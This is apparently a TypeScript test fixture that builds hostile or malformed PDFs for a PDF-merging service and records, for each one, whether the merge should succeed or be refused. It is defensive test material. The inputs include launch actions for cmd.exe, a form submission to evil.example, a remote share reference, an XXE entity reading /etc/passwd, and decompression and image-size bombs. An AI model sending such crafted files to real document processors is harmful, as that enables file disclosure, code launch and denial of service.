import { deflateSync } from 'node:zlib';
import { encryptedPdf } from './encrypted-pdf.ts';
import { FONT, flate, manyPages, onePage, WORDS, withImage, writeHandmade } from './write-pdf.ts';

const js = (script: string) => `<</S/JavaScript/JS(${script})>>`;
const annotation = (entries: string) => `/Annots[<</Type/Annot/Rect[50 50 500 500]/F 4${entries}>>]`;
const bytesOf = (count: number, value: number) => new Uint8Array(count).fill(value);
const text = (bytes: Buffer) => bytes.toString('latin1');

/** Content streams within each other a thousand deep, or in a circle. */
const formsInCircle = () =>
  onePage({
    content: '/A Do',
    resources: '/XObject<</A 6 0 R>>',
    more: {
      6: {
        entries: '/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</B 7 0 R>>>>',
        data: '/B Do',
      },
      7: {
        entries: '/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</A 6 0 R>>>>',
        data: '/A Do',
      },
    },
  });

const objectStream = (cut: number) => {
  const body =
    '1 0 2 33 3 80 <</Type/Catalog/Pages 2 0 R>>     <</Type/Pages/Kids[3 0 R]/Count 1>>            <</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>';
  const packed = deflateSync(Buffer.from(body, 'latin1'));
  return writeHandmade({
    objects: {
      9: {
        entries: '/Type/ObjStm/N 3/First 15/Filter/FlateDecode',
        data: packed.subarray(0, Math.floor(packed.length * cut)),
      },
    },
  });
};

const bombOf = (rounds: number) => {
  let data: Buffer = Buffer.alloc(50_000_000);
  for (let round = 0; round < rounds; round += 1) data = deflateSync(data);
  return data;
};

/** A JPEG 2000 file that says to be larger than any memory. */
const jpx = (edge: number) => {
  const size = Buffer.alloc(4);
  size.writeUInt32BE(edge);
  return Buffer.concat([
    Buffer.from('ff4fff51002f0000', 'hex'),
    size,
    size,
    Buffer.alloc(8),
    size,
    size,
    Buffer.alloc(8),
    Buffer.from(
      '0003070101070101070101ff52000c00000001000504040001ff5c00134040484850484850484850484850484850ffd9',
      'hex',
    ),
  ]);
};

/** A JBIG2 page that says to be so large. */
const jbig2 = (edge: number) => {
  const size = Buffer.alloc(4);
  size.writeUInt32BE(edge);
  return Buffer.concat([
    Buffer.from('00000000300001', 'hex'),
    Buffer.from('00000013', 'hex'),
    size,
    size,
    Buffer.alloc(8),
    Buffer.from('000000', 'hex'),
  ]);
};

const signed = (more = '') =>
  onePage({
    catalog: '/AcroForm<</SigFlags 3/Fields[6 0 R]>>',
    page: '/Annots[6 0 R]',
    more: {
      6: '<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature)/Rect[50 50 250 100]/F 132/P 3 0 R/V 7 0 R>>',
      7: `<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 10 20 10]/Contents<3080>${more}>>`,
    },
  });

const form = (field: string, entries = '') =>
  onePage({
    catalog: `/AcroForm<</Fields[6 0 R]/DA(/F1 12 Tf 0 g)/DR<</Font<</F1 5 0 R>>>>${entries}>>`,
    page: '/Annots[6 0 R]',
    more: { 6: `<</Type/Annot/Subtype/Widget/Rect[72 600 300 630]/F 4/P 3 0 R${field}>>` },
  });

/** A later revision behind the end of a document. */
const revised = (objects: string, trailer: string) => {
  const first = onePage();
  const before = /startxref\n(\d+)/.exec(text(first))?.[1];
  const place = first.length;
  const added = `${objects}`;
  const table = `xref\n4 1\n${String(place).padStart(10, '0')} 00000 n \n`;
  return Buffer.concat([
    first,
    Buffer.from(
      `${added}${table}trailer\n<</Size 6/Root 1 0 R/Prev ${before}${trailer}>>\nstartxref\n${place + added.length}\n%%EOF\n`,
      'latin1',
    ),
  ]);
};

const replaced = (from: string, to: string) => Buffer.from(text(onePage()).replace(from, to), 'latin1');

const attachedFile = {
  6: '<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>',
  7: { entries: '/Type/EmbeddedFile', data: 'MZ evil' },
};

/** The result for a document: it is merged, or refused for one of these reasons. */
export type HostileDocument = {
  make: () => Buffer;
  outcome: 'merged' | readonly string[];
  /** Text that the result must have, or must not have. */
  has?: string;
  hasNot?: string;
  /** Its time limit is what ends it. */
  isEndless?: true;
};

const SEEN = 'A page that is seen';
const merged = (make: () => Buffer, has: string | undefined = SEEN): HostileDocument => ({
  make,
  outcome: 'merged',
  ...(has && { has }),
});
const refused = (make: () => Buffer, ...outcome: string[]): HostileDocument => ({ make, outcome });

/** Documents as an attacker, an old program or a broken disk makes them. */
export const HOSTILE_DOCUMENTS: Readonly<Record<string, HostileDocument>> = {
  'a user password, RC4': refused(() => encryptedPdf({ user: 'secret', owner: 'owner' }), 'password'),
  'a user password, AES': refused(() => encryptedPdf({ user: 'secret', owner: 'owner' }, true), 'password'),
  'an owner password, RC4': merged(() => encryptedPdf({ user: '', owner: 'owner' })),
  'an owner password, AES': merged(() => encryptedPdf({ user: '', owner: 'owner' }, true)),
  'an unknown encryption': refused(
    () => onePage({ more: { 9: '<</Filter/Unknown/V 9>>' }, trailer: '/Encrypt 9 0 R/ID[<00><00>]' }),
    'password',
    'damaged',
  ),
  'JavaScript on opening': merged(() => onePage({ catalog: `/OpenAction${js('app.alert(1)')}` })),
  'JavaScript by name': merged(() =>
    onePage({ catalog: `/Names<</JavaScript<</Names[(a)${js('while(1);')}]>>>>` }),
  ),
  'JavaScript of a page': merged(() => onePage({ page: `/AA<</O${js('app.alert(1)')}>>` })),
  'JavaScript of a field': merged(() => form(`/FT/Tx/T(a)/V(typed)/AA<</K${js('x')}/C${js('y')}>>`)),
  'a launch action': merged(() => onePage({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' })),
  'a launch annotation': merged(() =>
    onePage({ page: annotation('/Subtype/Link/A<</S/Launch/F(cmd.exe)>>') }),
  ),
  'a link outside': merged(() =>
    onePage({ page: annotation('/Subtype/Link/A<</S/URI/URI(https://evil.example/)>>') }),
  ),
  'a form that is sent': merged(() =>
    onePage({ catalog: '/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>' }),
  ),
  'data that is imported': merged(() => onePage({ catalog: '/OpenAction<</S/ImportData/F(data.fdf)>>' })),
  'a page elsewhere': merged(() =>
    onePage({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share.pdf)/D[0/Fit]>>' }),
  ),
  'an embedded file': merged(() =>
    onePage({ catalog: '/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>', more: attachedFile }),
  ),
  'a file as an annotation': merged(() =>
    onePage({ page: annotation('/Subtype/FileAttachment/FS 6 0 R'), more: attachedFile }),
  ),
  'a portfolio': merged(() =>
    onePage({
      catalog: '/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>',
      more: attachedFile,
    }),
  ),
  'a film': merged(() => onePage({ page: annotation('/Subtype/Movie/Movie<</F(film.avi)>>') })),
  'a sound': merged(() => onePage({ page: annotation('/Subtype/Sound/Sound 4 0 R') })),
  'a 3D model': merged(() => onePage({ page: annotation('/Subtype/3D/3DD 4 0 R') })),
  'rich media': merged(() => onePage({ page: annotation('/Subtype/RichMedia/RichMediaContent<<>>') })),
  'an annotation over the text': {
    make: () =>
      onePage({
        page: '/Annots[6 0 R]',
        more: {
          6: '<</Type/Annot/Subtype/Square/Rect[60 680 500 740]/F 4/AP<</N 7 0 R>>>>',
          7: {
            entries: '/Type/XObject/Subtype/Form/BBox[0 0 440 60]',
            data: '0 g 0 0 440 60 re f',
          },
        },
      }),
    outcome: 'merged',
    hasNot: 'seen',
  },
  'a black box over the text': {
    make: () => onePage({ content: `${WORDS} 0 g 60 680 440 60 re f` }),
    outcome: 'merged',
    hasNot: 'seen',
  },
  'white text': {
    make: () => onePage({ content: `${WORDS} 1 g BT /F1 24 Tf 72 600 Td (hidden words) Tj ET` }),
    outcome: 'merged',
    has: SEEN,
    hasNot: 'hidden',
  },
  'text outside of the page': {
    make: () => onePage({ content: `${WORDS} BT /F1 24 Tf 72 -600 Td (hidden words) Tj ET` }),
    outcome: 'merged',
    has: SEEN,
    hasNot: 'hidden',
  },
  'a hidden annotation': merged(() => onePage({ page: annotation('/Subtype/FreeText/Contents(x)/F 2') })),
  'a hidden layer': merged(() =>
    onePage({
      content: `${WORDS} /OC /L BDC BT /F1 24 Tf 72 600 Td (layer) Tj ET EMC`,
      resources: '/Properties<</L 6 0 R>>',
      catalog: '/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>',
      more: { 6: '<</Type/OCG/Name(L)>>' },
    }),
  ),
  'an XFA form': merged(() =>
    onePage({
      catalog: '/AcroForm<</Fields[]/XFA 6 0 R>>/NeedsRendering true',
      more: { 6: { entries: '', data: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>' } },
    }),
  ),
  'a form without drawings of its fields': merged(() =>
    form('/FT/Tx/T(a)/V(typed)/DA(/F1 12 Tf 0 g)', '/NeedAppearances true'),
  ),
  'a choice and a button': merged(() => form('/FT/Btn/T(b)/AS/Off/MK<</CA(4)>>')),
  'a signed document': merged(() => signed()),
  'a certified document': merged(() =>
    signed('/Reference[<</Type/SigRef/TransformMethod/DocMDP/TransformParams<</P 1>>>>]'),
  ),
  'a changed revision': merged(
    () =>
      revised(
        '4 0 obj\n<</Length 62>>\nstream\nBT /F1 24 Tf 72 700 Td (The page of the second time) Tj ET   \nendstream\nendobj\n',
        '',
      ),
    'second time',
  ),
  'a revision that deletes': merged(() => revised('4 0 obj\nnull\nendobj\n', ''), ''),
  'a hybrid table': merged(() => revised('', '/XRefStm 99')),
  'a table that is its own predecessor': merged(() => {
    const file = text(onePage());
    const start = /startxref\n(\d+)/.exec(file)?.[1];
    return Buffer.from(file.replace('/Root 1 0 R', `/Root 1 0 R/Prev ${start}`), 'latin1');
  }),
  'no table': merged(() =>
    Buffer.from(text(onePage()).replace(/xref\n[\s\S]*?trailer/, 'trailer'), 'latin1'),
  ),
  'a table elsewhere': merged(() => replaced('startxref\n', 'startxref\n9')),
  'no end': refused(() => {
    const file = onePage();
    return file.subarray(0, file.length - 60);
  }, 'damaged'),
  'cut in half': refused(
    () => {
      const file = onePage();
      return file.subarray(0, file.length / 4);
    },
    'damaged',
    'no_page',
  ),
  'only the first line': refused(() => Buffer.from('%PDF-1.7\n'), 'damaged'),
  'noise behind the first line': refused(
    () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(bytesOf(5_000, 0x41))]),
    'damaged',
  ),
  'letters before the first line': merged(() =>
    Buffer.concat([Buffer.from('X-Header: 1\r\n\r\n'), onePage()]),
  ),
  'an object stream cut in half': refused(() => objectStream(0.5), 'damaged', 'no_page'),
  'objects in circles': refused(
    () => writeHandmade({ objects: { 1: '<</Type/Catalog/Pages 2 0 R>>', 2: '2 0 R' } }),
    'damaged',
    'no_page',
  ),
  'pages in a circle': refused(
    () =>
      writeHandmade({
        objects: { 1: '<</Type/Catalog/Pages 2 0 R>>', 2: '<</Type/Pages/Kids[2 0 R]/Count 1>>' },
      }),
    'damaged',
    'no_page',
  ),
  'no page': refused(
    () =>
      writeHandmade({ objects: { 1: '<</Type/Catalog/Pages 2 0 R>>', 2: '<</Type/Pages/Kids[]/Count 0>>' } }),
    'no_page',
    'damaged',
  ),
  'a page that is not there': refused(
    () =>
      writeHandmade({
        objects: { 1: '<</Type/Catalog/Pages 2 0 R>>', 2: '<</Type/Pages/Kids[7 0 R]/Count 1>>' },
      }),
    'damaged',
    'no_page',
  ),
  'a count of pages that is wrong': refused(
    () =>
      writeHandmade({
        objects: { 1: '<</Type/Catalog/Pages 2 0 R>>', 2: '<</Type/Pages/Kids[]/Count 2000000000>>' },
      }),
    'too_many_pages',
    'damaged',
    'no_page',
  ),
  '500 pages': refused(() => manyPages(500, WORDS), 'too_many_pages'),
  '10,000 empty pages': refused(() => manyPages(10_000), 'too_many_pages'),
  'a page of 1 m': merged(() => onePage({ box: '[0 0 2835 2835]' })),
  'a page of a kilometre': merged(() => onePage({ box: '[0 0 2835000 2835000]' }), ''),
  'a page of a hair': merged(() => onePage({ box: '[0 0 2 842]' }), ''),
  'a page without an area': merged(() => onePage({ box: '[0 0 0 0]' })),
  'a page upside down': merged(() => onePage({ box: '[595 842 0 0]' })),
  'a page that is turned': merged(() => onePage({ page: '/Rotate 90' })),
  'a page that is turned by an odd angle': merged(() => onePage({ page: '/Rotate 37' })),
  'a page with a unit of its own': merged(() => onePage({ page: '/UserUnit 1000' })),
  'a crop outside of the page': refused(() => onePage({ page: '/CropBox[9000 9000 9999 9999]' }), 'damaged'),
  'a 16-bit picture': merged(
    () =>
      withImage(
        '/Width 100/Height 100/ColorSpace/DeviceRGB/BitsPerComponent 16/Filter/FlateDecode',
        flate(bytesOf(60_000, 90)),
      ),
    '',
  ),
  'a CMYK picture': merged(
    () =>
      withImage(
        '/Width 100/Height 100/ColorSpace/DeviceCMYK/BitsPerComponent 8/Filter/FlateDecode',
        flate(bytesOf(40_000, 90)),
      ),
    '',
  ),
  'a picture that is too short': merged(
    () => withImage('/Width 1000/Height 1000/ColorSpace/DeviceGray/BitsPerComponent 8', 'x'),
    '',
  ),
  'a picture larger than any memory': merged(
    () =>
      withImage(
        '/Width 1000000/Height 1000000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode',
        flate(bytesOf(1_000, 1)),
      ),
    '',
  ),
  'a JPX bomb': merged(() => withImage('/Width 60000/Height 60000/Filter/JPXDecode', jpx(60_000)), ''),
  'a JBIG2 bomb': merged(
    () =>
      withImage(
        '/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode',
        jbig2(60_000),
      ),
    '',
  ),
  'a fax without an end': merged(
    () =>
      withImage(
        '/Width 6000/Height 6000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 6000/Rows 6000>>',
        bytesOf(2_000, 0x55),
      ),
    '',
  ),
  'a picture from outside': merged(
    () =>
      withImage(
        '/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 8/F(https://evil.example/a.jpg)',
        '',
      ),
    '',
  ),
  'a content bomb': {
    make: () => onePage({ more: { 4: { entries: '/Filter[/FlateDecode/FlateDecode]', data: bombOf(2) } } }),
    outcome: ['merged', 'too_complex'],
  },
  'forms in a circle': merged(formsInCircle, ''),
  'brackets that never close': merged(() => onePage({ content: `${WORDS} ${'['.repeat(100_000)}` }), ''),
  'saved states without an end': merged(() => onePage({ content: `${'q '.repeat(200_000)}${WORDS}` }), ''),
  'a pattern of a million tiles': {
    isEndless: true,
    make: () =>
      onePage({
        content: '/Pattern cs /P scn 0 0 595 842 re f',
        resources: '/Pattern<</P 6 0 R>>',
        more: {
          6: {
            entries:
              '/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.01/YStep 0.01/Resources<<>>',
            data: '0 0 1 1 re f',
          },
        },
      }),
    outcome: ['merged', 'too_complex'],
  },
  'a shading that calculates': merged(
    () =>
      onePage({
        content: `${WORDS} /S sh`,
        resources: '/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 6 0 R>>>>',
        more: {
          6: {
            entries: '/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]',
            data: `{${'dup mul '.repeat(2_000)} pop 0 0 0}`,
          },
        },
      }),
    '',
  ),
  'more text than a page has': refused(
    () => onePage({ content: `BT /F1 1 Tf 10 800 Td ${'(aaaaaaaaaaaaaaaaaaaa) Tj '.repeat(2_000)} ET` }),
    'too_complex',
  ),
  'a font that is not embedded': merged(() =>
    onePage({ more: { 5: FONT.replace('Helvetica', 'Comic Sans MS') } }),
  ),
  'a font that is broken': merged(
    () =>
      onePage({
        more: {
          5: '<</Type/Font/Subtype/TrueType/BaseFont/Broken/FirstChar 32/LastChar 33/Widths[500 500]/FontDescriptor 6 0 R>>',
          6: '<</Type/FontDescriptor/FontName/Broken/Flags 4/FontFile2 7 0 R>>',
          7: { entries: '', data: 'not a font at all' },
        },
      }),
    '',
  ),
  'a font that draws the page': merged(
    () =>
      onePage({
        more: {
          5: '<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</A 6 0 R>>/Encoding<</Differences[65/A]>>/FirstChar 65/LastChar 65/Widths[1]>>',
          6: { entries: '', data: '1 0 d0 BT /F1 1 Tf (A) Tj ET' },
        },
      }),
    '',
  ),
  'metadata with an outside entity': merged(() =>
    onePage({
      catalog: '/Metadata 6 0 R',
      more: {
        6: {
          entries: '/Type/Metadata/Subtype/XML',
          data: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        },
      },
    }),
  ),
  'a name that breaks out': merged(() =>
    onePage({ catalog: '/PageLabels<</Nums[0<</P(</Type/Catalog>>)>>]>>' }),
  ),
};
